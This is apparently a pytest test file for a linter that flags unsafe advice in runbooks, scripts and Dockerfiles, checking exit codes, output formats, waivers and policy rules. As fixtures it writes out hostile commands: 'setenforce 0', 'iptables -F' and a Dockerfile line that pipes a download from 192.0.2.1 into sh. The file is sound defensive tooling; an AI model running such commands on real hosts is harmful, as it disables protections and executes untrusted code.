from __future__ import annotations

import json
from pathlib import Path

import pytest
from jsonschema import Draft4Validator
from support.command import Command

UNSAFE = "# Fix\n\nRun this on the node:\n\n```bash\nsudo setenforce 0\n```\n"
SAFE = "# Fix\n\nNever run `setenforce 0` on a production host; read the denial with `ausearch -m avc -ts recent`.\n"


def test_unsafe_advice_is_exit_3_with_its_place_reason_and_way_out(run: Command) -> None:
    (run.home / "runbook.md").write_text(UNSAFE)
    done = run("lint", "runbook.md")
    assert done.returncode == 3
    assert "runbook.md:6:" in done.stdout
    assert "disable-mac" in done.stdout
    assert "instead:" in done.stdout


def test_a_warning_is_no_finding(run: Command) -> None:
    done = run("lint", "-", stdin=SAFE)
    assert (done.returncode, done.stdout) == (0, "")


def test_a_folder_is_searched_and_kinds_go_by_name(run: Command) -> None:
    folder = run.home / "ops"
    folder.mkdir()
    (folder / "a.sh").write_text("#!/bin/sh\nsetenforce 0\n")
    (folder / "Dockerfile").write_text("FROM scratch\nRUN curl http://192.0.2.1/x | sh\n")
    (folder / "picture.png").write_bytes(b"setenforce 0")
    rows = json.loads(run("lint", "ops", "--as", "json").stdout)
    assert {row["file"] for row in rows} == {"ops/a.sh", "ops/Dockerfile"}


@pytest.mark.parametrize("form", ["json", "sarif", "github"])
def test_machine_forms_hold_the_finding(run: Command, form: str) -> None:
    (run.home / "r.md").write_text(UNSAFE)
    done = run("lint", "r.md", "--as", form)
    assert done.returncode == 3
    if form == "json":
        assert json.loads(done.stdout)[0]["class"] == "disable-mac"
    elif form == "sarif":
        region = json.loads(done.stdout)["runs"][0]["results"][0]["locations"][0]["physicalLocation"]["region"]
        assert region["startLine"] == 6
    else:
        assert done.stdout.startswith("::error file=r.md,line=6")


def test_fail_on_sets_the_bar(run: Command) -> None:

    assert run("lint", "-", "--fail-on", "low", stdin=UNSAFE).returncode == 3


def test_a_missing_file_is_exit_4(run: Command) -> None:
    assert run("lint", "nowhere.md").returncode == 4


SARIF = Path(__file__).parents[1] / "data" / "sarif-2.1.0.json"
WAIVED = UNSAFE.replace("```bash", "<!-- explainer: allow disable-mac lab, rebuilt nightly -->\n```bash")


@pytest.mark.parametrize("text", [UNSAFE, SAFE, WAIVED], ids=["finding", "nothing", "waived"])
def test_sarif_is_valid(run: Command, text: str) -> None:
    (run.home / "a run book.md").write_text(text)
    document = json.loads(run("lint", "a run book.md", "--as", "sarif").stdout)
    errors = list(Draft4Validator(json.loads(SARIF.read_text())).iter_errors(document))
    assert errors == []


def test_text_shows_the_line_with_carets_below_the_finding(run: Command) -> None:
    (run.home / "r.md").write_text(UNSAFE)
    lines = run("lint", "r.md").stdout.splitlines()
    source = next(i for i, line in enumerate(lines) if line.startswith("  6 | "))
    assert lines[source].endswith("sudo setenforce 0")
    assert set(lines[source + 1].split("|")[1].strip()) == {"^"}


def test_a_waived_finding_is_listed_and_does_not_fail(run: Command) -> None:
    done = run("lint", "-", "--kind", "markdown", stdin=WAIVED)
    assert done.returncode == 0
    assert "waived" in done.stdout
    assert "lab, rebuilt nightly" in done.stdout
    assert run("lint", "-", "--kind", "markdown", "--no-waivers", stdin=WAIVED).returncode == 3


def test_a_policy_file_in_the_folder_is_used_and_its_mistakes_are_named(run: Command) -> None:
    (run.home / ".explainer-lint.yaml").write_text("off: [disable-mac]\nexclude: ['vendor/*']\n")
    assert run("lint", "-", "--kind", "markdown", stdin=UNSAFE).returncode == 0
    (run.home / "vendor").mkdir()
    (run.home / "vendor" / "x.md").write_text("Run `iptables -F` now.\n")
    assert run("lint", ".").returncode == 0
    (run.home / ".explainer-lint.yaml").write_text("off: [disable-mad]\n")
    done = run("lint", "-", stdin=UNSAFE)
    assert done.returncode == 4
    assert "disable-mac" in done.stderr


def test_rules_of_the_site_are_read_from_its_folder(run: Command) -> None:
    (run.home / "rules").mkdir()
    (run.home / "rules" / "own.yaml").write_text(
        "- id: reboot-friday\n  class: unsafe-response\n  severity: high\n  match: {command: [friday-reboot]}\n"
        "  why: all at once\n  instead: one by one\n  examples: {unsafe: [friday-reboot], safe: [ls]}\n"
    )
    (run.home / "policy.yaml").write_text("rules: [rules]\n")
    done = run("lint", "-", "--policy", "policy.yaml", "--kind", "shell", stdin="friday-reboot\n")
    assert done.returncode == 3
    assert "reboot-friday" in run("advice", "list", "--policy", "policy.yaml").stdout


def test_advice_rules_can_be_looked_at(run: Command) -> None:
    assert "selinux-permissive" in run("advice", "list", "--class", "disable-mac").stdout
    shown = run("advice", "show", "selinux-permissive").stdout
    assert "instead" in shown
    assert run("advice", "show", "selinux-permissiv").returncode == 2
